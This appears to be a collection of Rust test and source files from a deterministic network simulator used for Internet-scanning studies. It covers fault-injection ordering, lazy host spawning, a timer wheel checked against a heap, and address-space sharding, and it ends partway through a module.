//! connection. Jitter delays individual segments by random amounts, but the
//! per-connection FIFO clamp must keep delivery in send order for *any*
//! plan and seed — an injected reset may truncate the stream, never permute
//! it.

use ofh_net::{
    ip, Agent, ConnToken, FaultPlan, FaultSchedule, NetCtx, Payload, SimNet, SimNetConfig,
    SimTime, SockAddr, TcpDecision,
};
use proptest::prelude::*;

struct Sender {
    dst: SockAddr,
    count: u8,
}

impl Agent for Sender {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        ctx.tcp_connect(self.dst);
    }
    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        // A burst at one timestamp maximizes the chance jitter would swap
        // two segments if the clamp were missing.
        for i in 0..self.count {
            ctx.tcp_send(conn, vec![i]);
        }
    }
}

#[derive(Default)]
struct Receiver {
    seen: Vec<u8>,
}

impl Agent for Receiver {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        _conn: ConnToken,
        _local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        TcpDecision::accept()
    }
    fn on_tcp_data(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken, data: &Payload) {
        self.seen.extend_from_slice(data);
    }
}

proptest! {
    #[test]
    fn jitter_never_reorders_within_a_connection(
        seed in any::<u64>(),
        jitter_ms in 0u64..400,
        drop in 0.0f64..0.9,
        reset in 0.0f64..0.1,
        count in 1u8..32,
    ) {
        let faults = FaultSchedule::uniform(FaultPlan {
            drop_chance: drop,
            jitter_ms,
            reset_chance: reset,
            ..FaultPlan::NONE
        });
        let mut net = SimNet::new(SimNetConfig {
            seed,
            faults,
            ..SimNetConfig::default()
        });
        let dst = SockAddr::new(ip(16, 1, 0, 1), 7);
        let rid = net.attach(dst.addr, Box::new(Receiver::default()));
        net.attach(ip(16, 1, 0, 2), Box::new(Sender { dst, count }));
        net.run_until(SimTime(600_000));
        let seen = &net.agent_downcast::<Receiver>(rid).unwrap().seen;
        // Delivery is a prefix of the sent sequence: faults may truncate
        // (lost handshake, injected reset) but never reorder or duplicate.
        let expect: Vec<u8> = (0..seen.len() as u8).collect();
        prop_assert_eq!(seen, &expect, "segments reordered or duplicated");
    }
}
