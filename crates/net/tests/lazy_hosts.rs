//! The implicit (first-touch) host population at the fabric level.
//!
//! A [`HostSpawner`] answers occupancy as a pure function of the address and
//! materializes agents only when traffic is actually delivered. These tests
//! pin the contract the paper-scale streaming population rests on:
//!
//! * first-touch generation is idempotent — probing the same address twice
//!   materializes once and yields byte-identical responses, and two
//!   independent simulations spawn identical device state;
//! * occupancy checks never materialize — probes suppressed in flight
//!   (chaos-schedule churn marking the host dark) leave the host implicit.

use std::cell::Cell;
use std::net::Ipv4Addr;
use std::rc::Rc;

use ofh_net::{
    ip, Agent, ConnToken, FaultPhase, FaultPlan, FaultSchedule, HostSpawner, NetCtx, Payload,
    SimDuration, SimNet, SimNetConfig, SimTime, SockAddr, TcpDecision,
};

/// A banner server whose banner is derived from its address — a stand-in for
/// "device state generated deterministically from seed + address".
struct AddrBanner {
    banner: Vec<u8>,
}

impl Agent for AddrBanner {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        _conn: ConnToken,
        port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if port == 23 {
            TcpDecision::accept_with(self.banner.clone())
        } else {
            TcpDecision::Refuse
        }
    }
}

/// Spawner over one /24: every address with last octet >= 100 is an
/// [`AddrBanner`] host. Counts spawn calls to prove at-most-once.
struct TestSpawner {
    spawns: Rc<Cell<u32>>,
}

fn spawner_owns(addr: Ipv4Addr) -> bool {
    addr.octets()[..3] == [10, 0, 0] && addr.octets()[3] >= 100
}

impl HostSpawner for TestSpawner {
    fn occupied(&self, addr: Ipv4Addr) -> bool {
        spawner_owns(addr)
    }

    fn spawn(&mut self, addr: Ipv4Addr) -> Option<Box<dyn Agent>> {
        if !spawner_owns(addr) {
            return None;
        }
        self.spawns.set(self.spawns.get() + 1);
        Some(Box::new(AddrBanner {
            banner: format!("device-{}\r\n", addr).into_bytes(),
        }))
    }
}

/// A client that connects to each target twice in sequence and records the
/// first payload of every connection.
struct Prober {
    targets: Vec<SockAddr>,
    next: usize,
    banners: Vec<Vec<u8>>,
    timeouts: usize,
}

impl Prober {
    fn new(targets: Vec<SockAddr>) -> Self {
        Prober {
            targets,
            next: 0,
            banners: Vec::new(),
            timeouts: 0,
        }
    }

    fn fire_next(&mut self, ctx: &mut NetCtx<'_>) {
        if let Some(&dst) = self.targets.get(self.next) {
            self.next += 1;
            ctx.tcp_connect(dst);
        }
    }
}

impl Agent for Prober {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        self.fire_next(ctx);
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        self.banners.push(data.to_vec());
        ctx.tcp_close(conn);
        self.fire_next(ctx);
    }

    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, _conn: ConnToken) {
        self.timeouts += 1;
        self.fire_next(ctx);
    }

    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, _conn: ConnToken) {
        self.fire_next(ctx);
    }
}

fn run_probe(cfg: SimNetConfig, targets: Vec<SockAddr>) -> (SimNet, ofh_net::AgentId, Rc<Cell<u32>>) {
    let spawns = Rc::new(Cell::new(0));
    let mut net = SimNet::new(cfg);
    net.set_spawner(Box::new(TestSpawner {
        spawns: Rc::clone(&spawns),
    }));
    let prober = net.attach(ip(10, 0, 0, 1), Box::new(Prober::new(targets)));
    net.run_until(SimTime(600_000));
    (net, prober, spawns)
}

#[test]
fn first_touch_is_idempotent_within_a_run() {
    // Probe the same implicit host twice: one spawn, identical banners.
    let dst = SockAddr::new(ip(10, 0, 0, 150), 23);
    let (net, prober, spawns) = run_probe(SimNetConfig::default(), vec![dst, dst]);
    let prober = net.agent_downcast::<Prober>(prober).unwrap();
    assert_eq!(prober.banners.len(), 2, "both probes answered");
    assert_eq!(prober.banners[0], prober.banners[1], "same device state twice");
    assert_eq!(spawns.get(), 1, "spawn called at most once per address");
    assert_eq!(net.materialized_count(), 1);
}

#[test]
fn first_touch_matches_across_runs_and_orders() {
    // Two runs touching the same address via different probe orders yield
    // the same device state: generation depends only on the address.
    let a = SockAddr::new(ip(10, 0, 0, 150), 23);
    let b = SockAddr::new(ip(10, 0, 0, 200), 23);
    let (net1, p1, _) = run_probe(SimNetConfig::default(), vec![a, b]);
    let (net2, p2, _) = run_probe(SimNetConfig::default(), vec![b, a]);
    let banners1 = &net1.agent_downcast::<Prober>(p1).unwrap().banners;
    let banners2 = &net2.agent_downcast::<Prober>(p2).unwrap().banners;
    assert_eq!(banners1.len(), 2);
    assert_eq!(banners1[0], banners2[1], "host {a:?} state is order-independent");
    assert_eq!(banners1[1], banners2[0], "host {b:?} state is order-independent");
}

#[test]
fn occupancy_checks_do_not_materialize() {
    // A probe into spawner-owned space materializes exactly the touched
    // host; probes into empty space (occupancy says no) materialize nothing.
    let (net, prober, spawns) = run_probe(
        SimNetConfig::default(),
        vec![
            SockAddr::new(ip(10, 0, 0, 50), 23),  // empty: below the spawner range
            SockAddr::new(ip(10, 0, 0, 150), 23), // implicit host
        ],
    );
    let prober = net.agent_downcast::<Prober>(prober).unwrap();
    assert_eq!(prober.timeouts, 1, "empty address times out");
    assert_eq!(prober.banners.len(), 1);
    assert_eq!(spawns.get(), 1);
    assert_eq!(net.materialized_count(), 1);
}

#[test]
fn churned_dark_host_is_not_materialized() {
    // Chaos-schedule churn with chance 1.0: every in-scope host is dark in
    // every slot, so the SYN is suppressed *at the host* without delivery —
    // and an untouched implicit host must stay implicit.
    let churn = FaultSchedule {
        phases: vec![FaultPhase {
            name: "churn-all".into(),
            from_ms: None,
            to_ms: None,
            scope: Default::default(),
            plan: FaultPlan {
                churn_chance: 1.0,
                ..FaultPlan::NONE
            },
            ramp: Default::default(),
        }],
    };
    let cfg = SimNetConfig {
        faults: churn,
        ..SimNetConfig::default()
    };
    let (net, prober, spawns) = run_probe(cfg, vec![SockAddr::new(ip(10, 0, 0, 150), 23)]);
    let prober = net.agent_downcast::<Prober>(prober).unwrap();
    assert_eq!(prober.timeouts, 1, "dark host looks empty to the client");
    assert!(prober.banners.is_empty());
    assert_eq!(spawns.get(), 0, "churn on an untouched address must not spawn");
    assert_eq!(net.materialized_count(), 0);
    assert_eq!(net.counters().churn_suppressed, 1);
}

#[test]
fn udp_first_touch_materializes_once() {
    struct UdpEcho;
    impl Agent for UdpEcho {
        fn on_udp(&mut self, ctx: &mut NetCtx<'_>, port: u16, peer: SockAddr, payload: &Payload) {
            ctx.udp_send(port, peer, payload.to_vec());
        }
    }
    struct UdpSpawner {
        spawns: Rc<Cell<u32>>,
    }
    impl HostSpawner for UdpSpawner {
        fn occupied(&self, addr: Ipv4Addr) -> bool {
            addr == ip(10, 0, 0, 200)
        }
        fn spawn(&mut self, addr: Ipv4Addr) -> Option<Box<dyn Agent>> {
            self.occupied(addr).then(|| {
                self.spawns.set(self.spawns.get() + 1);
                Box::new(UdpEcho) as Box<dyn Agent>
            })
        }
    }
    struct UdpProber {
        got: usize,
    }
    impl Agent for UdpProber {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            let dst = SockAddr::new(ip(10, 0, 0, 200), 5683);
            ctx.udp_send(40_000, dst, b"ping".as_slice());
            ctx.set_timer(SimDuration::from_secs(5), 1);
        }
        fn on_timer(&mut self, ctx: &mut NetCtx<'_>, _token: u64) {
            let dst = SockAddr::new(ip(10, 0, 0, 200), 5683);
            ctx.udp_send(40_000, dst, b"ping".as_slice());
        }
        fn on_udp(&mut self, _ctx: &mut NetCtx<'_>, _port: u16, _peer: SockAddr, _p: &Payload) {
            self.got += 1;
        }
    }

    let spawns = Rc::new(Cell::new(0));
    let mut net = SimNet::new(SimNetConfig::default());
    net.set_spawner(Box::new(UdpSpawner {
        spawns: Rc::clone(&spawns),
    }));
    let prober = net.attach(ip(10, 0, 0, 1), Box::new(UdpProber { got: 0 }));
    net.run_until(SimTime(60_000));
    assert_eq!(net.agent_downcast::<UdpProber>(prober).unwrap().got, 2);
    assert_eq!(spawns.get(), 1);
    assert_eq!(net.materialized_count(), 1);
}
