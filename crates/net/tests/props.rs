//! Property-based tests for the simulator substrate's core data structures.

use std::net::Ipv4Addr;

use ofh_net::event::EventQueue;
use ofh_net::time::{SimDate, SimTime};
use ofh_net::{Cidr, CidrSet};
use proptest::prelude::*;

proptest! {
    /// Civil-date <-> epoch-day conversion is a bijection over a wide range.
    #[test]
    fn date_roundtrip(days in -1_000_000i64..1_000_000) {
        let d = SimDate::from_epoch_days(days);
        prop_assert_eq!(d.to_epoch_days(), days);
        prop_assert!((1..=12).contains(&d.month));
        prop_assert!((1..=31).contains(&d.day));
    }

    /// Consecutive epoch days yield consecutive calendar dates.
    #[test]
    fn date_monotonic(days in -100_000i64..100_000) {
        let d0 = SimDate::from_epoch_days(days);
        let d1 = SimDate::from_epoch_days(days + 1);
        prop_assert_eq!(d0.plus_days(1), d1);
        prop_assert_eq!(d1.days_since(d0), 1);
    }

    /// The CIDR trie agrees with the naive linear scan on arbitrary
    /// block sets and probe addresses.
    #[test]
    fn cidr_trie_matches_linear(
        blocks in prop::collection::vec((any::<u32>(), 0u8..=32), 0..24),
        probes in prop::collection::vec(any::<u32>(), 0..64),
    ) {
        let blocks: Vec<Cidr> = blocks
            .into_iter()
            .map(|(addr, len)| Cidr::new(Ipv4Addr::from(addr), len).unwrap())
            .collect();
        let set = CidrSet::from_blocks(blocks.clone());
        for p in probes {
            let addr = Ipv4Addr::from(p);
            let linear = blocks.iter().any(|b| b.contains(addr));
            prop_assert_eq!(set.contains(addr), linear, "addr {}", addr);
        }
    }

    /// A CIDR block contains exactly its own first and last address, and its
    /// parent block contains it entirely.
    #[test]
    fn cidr_bounds(addr in any::<u32>(), len in 1u8..=32) {
        let c = Cidr::new(Ipv4Addr::from(addr), len).unwrap();
        prop_assert!(c.contains(c.first()));
        prop_assert!(c.contains(c.last()));
        let parent = Cidr::new(c.first(), len - 1).unwrap();
        prop_assert!(parent.contains(c.first()) && parent.contains(c.last()));
    }

    /// The event queue pops every scheduled event in non-decreasing time
    /// order, with FIFO order among equal timestamps.
    #[test]
    fn event_queue_ordering(times in prop::collection::vec(0u64..1000, 1..200)) {
        let mut q = EventQueue::new();
        for (i, &t) in times.iter().enumerate() {
            q.schedule(SimTime(t), i);
        }
        let mut popped = Vec::new();
        while let Some((t, idx)) = q.pop() {
            popped.push((t, idx));
        }
        prop_assert_eq!(popped.len(), times.len());
        for w in popped.windows(2) {
            prop_assert!(w[0].0 <= w[1].0, "time order violated");
            if w[0].0 == w[1].0 {
                prop_assert!(w[0].1 < w[1].1, "FIFO tie-break violated");
            }
        }
    }
}
