//! Differential property tests: the hierarchical timer wheel against the
//! retained binary-heap oracle.
//!
//! The simulator's determinism contract is that events pop in exact global
//! `(time, shard, seq)` order — each shard owns an independent queue, so
//! within a queue the contract is `(time, seq)`. The heap implements that
//! order by comparison; the wheel by bucketing and cascading. These tests
//! drive both with identical schedule/cancel/pop interleavings (including
//! same-tick ties and far-future timers that cross every wheel level) and
//! require bit-identical pop sequences.

use ofh_net::{HeapQueue, TimerWheel};
use proptest::prelude::*;

/// One step of an interleaving. Payload is the seq itself so a mismatch in
/// routing (not just ordering) would also surface.
#[derive(Debug, Clone)]
enum Op {
    /// Schedule at `last popped tick + delta` (deltas of 0 create ties;
    /// huge deltas cross wheel levels).
    Schedule { delta: u64 },
    /// Cancel the pending event at index `pick % pending.len()`, if any.
    Cancel { pick: usize },
    /// Pop once from both queues and compare.
    Pop,
}

fn op_strategy() -> impl Strategy<Value = Op> {
    prop_oneof![
        4 => delta_strategy().prop_map(|delta| Op::Schedule { delta }),
        1 => any::<usize>().prop_map(|pick| Op::Cancel { pick }),
        3 => Just(Op::Pop),
    ]
}

/// Deltas biased toward the interesting regimes: same-tick ties, the level-0
/// window, mid levels, and far-future jumps beyond level 5 (64^5 ≈ 1.07e9
/// ticks — past the 61-day simulation horizon).
fn delta_strategy() -> impl Strategy<Value = u64> {
    prop_oneof![
        3 => Just(0u64),
        4 => 0u64..64,
        3 => 0u64..4096,
        2 => 0u64..300_000,
        2 => 0u64..6_000_000_000,
        1 => 0u64..u64::MAX / 4,
    ]
}

/// Run one interleaving against both queues, checking every pop and the
/// final drain agree exactly.
fn differential(ops: Vec<Op>) {
    let mut wheel: TimerWheel<u64> = TimerWheel::new();
    let mut heap: HeapQueue<u64> = HeapQueue::new();
    let mut next_seq = 0u64;
    let mut clock = 0u64; // last popped tick: schedules clamp here, like EventQueue
    let mut pending: Vec<(u64, u64)> = Vec::new(); // (seq, tick) live in both queues

    for op in ops {
        match op {
            Op::Schedule { delta } => {
                let tick = clock.saturating_add(delta);
                let seq = next_seq;
                next_seq += 1;
                wheel.insert(tick, seq, seq);
                heap.insert(tick, seq, seq);
                pending.push((seq, tick));
            }
            Op::Cancel { pick } => {
                if pending.is_empty() {
                    continue;
                }
                let (seq, _) = pending.swap_remove(pick % pending.len());
                wheel.cancel(seq);
                heap.cancel(seq);
            }
            Op::Pop => {
                prop_assert_eq!(wheel.peek(), heap.peek(), "peek diverged");
                let (w, h) = (wheel.pop(), heap.pop());
                prop_assert_eq!(w, h, "pop diverged");
                if let Some((tick, seq, payload)) = w {
                    prop_assert_eq!(seq, payload);
                    prop_assert!(tick >= clock, "time ran backwards");
                    clock = tick;
                    pending.retain(|&(s, _)| s != seq);
                }
            }
        }
        prop_assert_eq!(wheel.len(), heap.len(), "len diverged");
    }
    // Drain both to the end: the tail order must agree too.
    loop {
        let (w, h) = (wheel.pop(), heap.pop());
        prop_assert_eq!(w, h, "drain diverged");
        if w.is_none() {
            break;
        }
    }
    prop_assert!(wheel.is_empty() && heap.is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// Arbitrary schedule/cancel/pop interleavings pop identically.
    #[test]
    fn wheel_matches_heap_oracle(ops in prop::collection::vec(op_strategy(), 0..400)) {
        differential(ops);
    }

    /// All-ties stress: every event lands on one of two adjacent ticks, so
    /// ordering is decided almost entirely by seq.
    #[test]
    fn same_tick_ties_break_identically(
        deltas in prop::collection::vec(0u64..2, 1..200),
        pops in 1usize..100,
    ) {
        let mut ops: Vec<Op> = deltas.into_iter().map(|delta| Op::Schedule { delta }).collect();
        for _ in 0..pops {
            ops.push(Op::Pop);
        }
        differential(ops);
    }

    /// Far-future stress: timers scattered across all eleven wheel levels,
    /// popped dry, then rescheduled from the advanced clock.
    #[test]
    fn cross_level_timers_pop_identically(
        rounds in prop::collection::vec(
            prop::collection::vec(delta_strategy(), 1..40),
            1..5,
        ),
    ) {
        let mut ops = Vec::new();
        for deltas in rounds {
            let n = deltas.len();
            ops.extend(deltas.into_iter().map(|delta| Op::Schedule { delta }));
            // Drain more than scheduled: exercises empty pops mid-stream.
            ops.extend(std::iter::repeat_with(|| Op::Pop).take(n + 2));
        }
        differential(ops);
    }
}
