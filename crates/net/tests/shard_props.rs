//! Property-based tests for the sharding layer: shard-derived RNG streams
//! must be pairwise independent (no positional collisions), and shard
//! ownership must be a true partition of any address range the scanners'
//! CIDR iterator can walk.

use std::net::Ipv4Addr;

use ofh_net::rng::rng_for_indexed;
use ofh_net::{shard_of, ShardSpec};
use proptest::prelude::*;
use rand::Rng;

/// Sibling shard RNG streams never collide position-wise: for any master
/// seed and pair of distinct shards, the first 10k u64 draws differ at
/// every position. A collision would mean two shards replay each other's
/// randomness and their merged traces lose independence.
#[test]
fn sibling_shard_streams_never_collide() {
    for master in [0u64, 1, 0xDEAD_BEEF, u64::MAX] {
        let specs: Vec<ShardSpec> = ShardSpec::all(4).collect();
        let streams: Vec<Vec<u64>> = specs
            .iter()
            .map(|s| {
                let mut rng = rng_for_indexed(s.seed(master, "shard-net"), "stream", 0);
                (0..10_000).map(|_| rng.gen::<u64>()).collect()
            })
            .collect();
        for a in 0..streams.len() {
            for b in (a + 1)..streams.len() {
                let collisions = streams[a]
                    .iter()
                    .zip(&streams[b])
                    .filter(|(x, y)| x == y)
                    .count();
                assert_eq!(
                    collisions, 0,
                    "shards {a} and {b} collided under master {master:#x}"
                );
            }
        }
    }
}

proptest! {
    /// Every address in an arbitrary CIDR-aligned range is owned by exactly
    /// one shard, and per-shard owned counts sum to the range size — shard
    /// ownership is a true partition of the iterator's address space.
    #[test]
    fn shard_ownership_partitions_cidr_range(
        base in any::<u32>(),
        bits in 0u32..=12,
        count in 1u32..=9,
    ) {
        let size = 1u64 << bits;
        let base = Ipv4Addr::from(base & !((size - 1) as u32)); // CIDR-align
        let specs: Vec<ShardSpec> = ShardSpec::all(count).collect();
        let mut owned = vec![0u64; count as usize];
        for off in 0..size {
            let addr = Ipv4Addr::from(u32::from(base).wrapping_add(off as u32));
            let owners: Vec<u32> = specs
                .iter()
                .filter(|s| s.owns(addr))
                .map(|s| s.index)
                .collect();
            prop_assert_eq!(owners.len(), 1, "addr {} owners {:?}", addr, owners);
            prop_assert_eq!(owners[0], shard_of(addr, count));
            owned[owners[0] as usize] += 1;
        }
        // owned_in agrees with the direct walk, and counts sum to the size.
        for s in &specs {
            prop_assert_eq!(s.owned_in(base, size), owned[s.index as usize]);
        }
        prop_assert_eq!(owned.iter().sum::<u64>(), size);
    }

    /// Shard seeds are injective over (shard, label) for a fixed master:
    /// distinct shards or distinct stream labels never share a seed.
    #[test]
    fn shard_seeds_unique(master in any::<u64>()) {
        let labels = ["shard-net", "scan", "sonar", "shodan"];
        let mut seen = std::collections::BTreeSet::new();
        for spec in ShardSpec::all(16) {
            for label in labels {
                prop_assert!(
                    seen.insert(spec.seed(master, label)),
                    "seed collision at shard {} label {}", spec.index, label
                );
            }
        }
    }
}
