//! Property-based tests for the elastic sharding layer: shard-derived RNG
//! streams must be pairwise independent (no positional collisions), and
//! shard ownership must be a true partition — balanced within tolerance and
//! summing exactly to the domain — at every supported power-of-two count.

use std::net::Ipv4Addr;

use ofh_net::rng::rng_for_indexed;
use ofh_net::{shard_of, ShardSpec, MAX_SHARDS};
use proptest::prelude::*;
use rand::Rng;

/// The elastic range: every count the partition supports, from the
/// degenerate single shard through the 4096-way maximum.
const ELASTIC_COUNTS: [u32; 6] = [1, 2, 4, 64, 1024, 4096];

/// Sibling shard RNG streams never collide position-wise: for any master
/// seed and pair of distinct shards, the first 10k u64 draws differ at
/// every position. A collision would mean two shards replay each other's
/// randomness and their merged traces lose independence.
#[test]
fn sibling_shard_streams_never_collide() {
    for master in [0u64, 1, 0xDEAD_BEEF, u64::MAX] {
        let specs: Vec<ShardSpec> = ShardSpec::all(4).collect();
        let streams: Vec<Vec<u64>> = specs
            .iter()
            .map(|s| {
                let mut rng = rng_for_indexed(s.seed(master, "shard-net"), "stream", 0);
                (0..10_000).map(|_| rng.gen::<u64>()).collect()
            })
            .collect();
        for a in 0..streams.len() {
            for b in (a + 1)..streams.len() {
                let collisions = streams[a]
                    .iter()
                    .zip(&streams[b])
                    .filter(|(x, y)| x == y)
                    .count();
                assert_eq!(
                    collisions, 0,
                    "shards {a} and {b} collided under master {master:#x}"
                );
            }
        }
    }
}

/// The same independence at the elastic extremes: sampled shard pairs of a
/// 4096-way partition — including the far corners — draw positionally
/// disjoint streams for every re-keyed label.
#[test]
fn extreme_count_streams_stay_independent() {
    let indices = [0u32, 1, 63, 64, 1023, 2048, 4094, 4095];
    for label in ["shard-net", "scan"] {
        let streams: Vec<Vec<u64>> = indices
            .iter()
            .map(|&index| {
                let spec = ShardSpec { index, count: MAX_SHARDS };
                let mut rng = rng_for_indexed(spec.seed(7, label), "stream", 0);
                (0..2_000).map(|_| rng.gen::<u64>()).collect()
            })
            .collect();
        for a in 0..streams.len() {
            for b in (a + 1)..streams.len() {
                let collisions = streams[a]
                    .iter()
                    .zip(&streams[b])
                    .filter(|(x, y)| x == y)
                    .count();
                assert_eq!(
                    collisions, 0,
                    "shards {} and {} collided under label {label}",
                    indices[a], indices[b]
                );
            }
        }
    }
}

/// Balance and exact coverage across the whole elastic range, in one walk:
/// a single histogram of `shard_of` over a contiguous 2^22 range shows (a)
/// per-shard counts summing exactly to the range size at every count, and
/// (b) every shard within [½, 2]× of its ideal share — the tolerance the
/// work-stealing scheduler is built to absorb.
#[test]
fn elastic_counts_balance_within_tolerance_and_cover_exactly() {
    let base = u32::from(Ipv4Addr::new(16, 0, 0, 0));
    let size = 1u64 << 22;
    // Counting at the maximum refinement once is enough: ownership at any
    // coarser power of two is the mask of the same hash bits, so coarse
    // histograms are exact sums of fine buckets.
    let mut fine = vec![0u64; MAX_SHARDS as usize];
    for off in 0..size {
        fine[shard_of(Ipv4Addr::from(base + off as u32), MAX_SHARDS) as usize] += 1;
    }
    for count in ELASTIC_COUNTS {
        let mut owned = vec![0u64; count as usize];
        for (bucket, n) in fine.iter().enumerate() {
            owned[bucket & (count as usize - 1)] += n;
        }
        assert_eq!(owned.iter().sum::<u64>(), size, "coverage at count {count}");
        let ideal = size / count as u64;
        for (index, &n) in owned.iter().enumerate() {
            assert!(
                n > ideal / 2 && n < ideal * 2,
                "count {count}: shard {index} owns {n} (ideal {ideal})"
            );
        }
    }
    // The coarse histograms really are refinements of each other (spot-check
    // the mask identity the fold above relies on).
    for off in (0..size).step_by(4_097) {
        let addr = Ipv4Addr::from(base + off as u32);
        assert_eq!(shard_of(addr, 64), shard_of(addr, MAX_SHARDS) & 63);
    }
}

proptest! {
    /// Every address in an arbitrary CIDR-aligned range is owned by exactly
    /// one shard, and per-shard owned counts sum to the range size — shard
    /// ownership is a true partition at every power-of-two count.
    #[test]
    fn shard_ownership_partitions_cidr_range(
        base in any::<u32>(),
        bits in 0u32..=12,
        k in 0u32..=6,
    ) {
        let count = 1u32 << k;
        let size = 1u64 << bits;
        let base = Ipv4Addr::from(base & !((size - 1) as u32)); // CIDR-align
        let specs: Vec<ShardSpec> = ShardSpec::all(count).collect();
        let mut owned = vec![0u64; count as usize];
        for off in 0..size {
            let addr = Ipv4Addr::from(u32::from(base).wrapping_add(off as u32));
            let owners: Vec<u32> = specs
                .iter()
                .filter(|s| s.owns(addr))
                .map(|s| s.index)
                .collect();
            prop_assert_eq!(owners.len(), 1, "addr {} owners {:?}", addr, owners);
            prop_assert_eq!(owners[0], shard_of(addr, count));
            owned[owners[0] as usize] += 1;
        }
        // owned_in agrees with the direct walk, and counts sum to the size.
        for s in &specs {
            prop_assert_eq!(s.owned_in(base, size), owned[s.index as usize]);
        }
        prop_assert_eq!(owned.iter().sum::<u64>(), size);
    }

    /// Shard seeds are injective over (shard, label) for a fixed master —
    /// across the full elastic index range: distinct shards or distinct
    /// stream labels never share a re-keyed seed.
    #[test]
    fn shard_seeds_unique(master in any::<u64>()) {
        let labels = ["shard-net", "scan", "sonar", "shodan"];
        let mut seen = std::collections::BTreeSet::new();
        for spec in ShardSpec::all(MAX_SHARDS) {
            for label in labels {
                prop_assert!(
                    seen.insert(spec.seed(master, label)),
                    "seed collision at shard {} label {}", spec.index, label
                );
            }
        }
    }
}
