//! Deterministic elastic address-space sharding.
//!
//! The study engine splits the simulated Internet into **2^k** shards
//! (`k` in `0..=12`, i.e. any power-of-two count in 1..=4096) and runs each
//! shard as an independent [`crate::SimNet`]. Shard ownership is a pure
//! function of the address (the low bits of a SplitMix64 hash, selected by
//! mask), so the partition — and therefore every shard's event trace —
//! depends only on the master seed and the shard *count*, never on how many
//! worker threads execute the shards. That is what makes the merged study
//! report byte-identical for any worker count.
//!
//! Two knobs, two contracts:
//!
//! * **Shard count is a semantic knob.** Each count is a *different* (but
//!   equally valid) partition: per-shard RNG streams are re-keyed by shard
//!   index, and sweep/replica boundaries move with the partition, so
//!   `shards=16` and `shards=64` produce different — individually
//!   deterministic — traces. The count is serialized with the config.
//! * **Worker count is a pure execution knob.** For a *fixed* shard count
//!   the report is byte-identical at any worker count (see
//!   `tests/scaling_determinism.rs`), which is why it is `#[serde(skip)]`.
//!
//! The hash (rather than a contiguous range split) matters: populations are
//! geographically clustered in address space, and a range split would give
//! some shards all the devices and others none. SplitMix64 scatters
//! neighbouring addresses across shards, so load stays balanced at every
//! supported count. Power-of-two counts make ownership a mask of hash bits:
//! the partition at count 2^k refines the partition at 2^(k-1) (each shard
//! splits in two), and `owns` costs one hash + one AND on the hot paths that
//! filter full permutation walks.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::rng::{derive_seed_indexed, splitmix64};

/// Salt folded into the ownership hash so shard assignment is unrelated to
/// any other SplitMix64 use of the raw address (e.g. latency jitter).
const SHARD_SALT: u64 = 0x5348_4152_4421_6f66; // "SHARD!of"

/// Largest supported shard count (2^12). The partition is elastic below
/// this: any power of two in `1..=MAX_SHARDS` is a valid count.
pub const MAX_SHARDS: u32 = 4_096;

/// One shard of a fixed-size partition of the address space.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ShardSpec {
    /// This shard's index in `0..count`.
    pub index: u32,
    /// Total number of shards in the partition (a power of two ≤ 4096).
    pub count: u32,
}

impl ShardSpec {
    /// The degenerate single-shard partition (owns every address).
    pub const WHOLE: ShardSpec = ShardSpec { index: 0, count: 1 };

    /// All shards of a `count`-way partition.
    pub fn all(count: u32) -> impl Iterator<Item = ShardSpec> {
        let count = count.max(1);
        debug_assert!(
            count.is_power_of_two() && count <= MAX_SHARDS,
            "shard count {count} is not a power of two in 1..={MAX_SHARDS}"
        );
        (0..count).map(move |index| ShardSpec { index, count })
    }

    /// Whether this shard owns `addr`. Exactly one shard of a partition
    /// owns any given address.
    #[inline]
    pub fn owns(&self, addr: Ipv4Addr) -> bool {
        shard_of(addr, self.count) == self.index
    }

    /// Seed for this shard's event fabric / RNG streams: the master seed
    /// re-keyed by (label, shard index). Distinct per (label, index) —
    /// property-tested across the full 4096-shard range in
    /// `crates/net/tests/shard_props.rs` — and never colliding with the
    /// unsharded `derive_seed` streams because of the label. The *count* is
    /// deliberately not folded in: index `i` keeps its streams when the
    /// partition grows, so what changes between counts is exactly which
    /// addresses a stream governs (the partition), nothing else.
    pub fn seed(&self, master: u64, label: &str) -> u64 {
        derive_seed_indexed(master, label, self.index as u64)
    }

    /// How many of the `size` addresses starting at `base` this shard owns.
    /// O(size) in the general case; the single-shard partition answers
    /// immediately.
    pub fn owned_in(&self, base: Ipv4Addr, size: u64) -> u64 {
        if self.count <= 1 {
            return size;
        }
        let first = u32::from(base) as u64;
        (0..size)
            .filter(|off| shard_of(Ipv4Addr::from((first + off) as u32), self.count) == self.index)
            .count() as u64
    }
}

/// The shard (in `0..shards`) that owns `addr`. `shards` must be a power of
/// two ≤ [`MAX_SHARDS`] (enforced by `StudyConfig::validate`); ownership is
/// the low `log2(shards)` bits of the salted address hash.
#[inline]
pub fn shard_of(addr: Ipv4Addr, shards: u32) -> u32 {
    debug_assert!(
        shards >= 1 && shards.is_power_of_two() && shards <= MAX_SHARDS,
        "shard count {shards} is not a power of two in 1..={MAX_SHARDS}"
    );
    if shards <= 1 {
        return 0;
    }
    (splitmix64(u64::from(u32::from(addr)) ^ SHARD_SALT) & (shards as u64 - 1)) as u32
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ip;

    #[test]
    fn ownership_is_a_partition() {
        for shards in [1u32, 2, 8, 16, 64] {
            for a in 0..512u32 {
                let addr = Ipv4Addr::from(0x1000_0000 + a);
                let owners: Vec<u32> = ShardSpec::all(shards)
                    .filter(|s| s.owns(addr))
                    .map(|s| s.index)
                    .collect();
                assert_eq!(owners.len(), 1, "addr {addr} owned by {owners:?}");
                assert_eq!(owners[0], shard_of(addr, shards));
            }
        }
    }

    #[test]
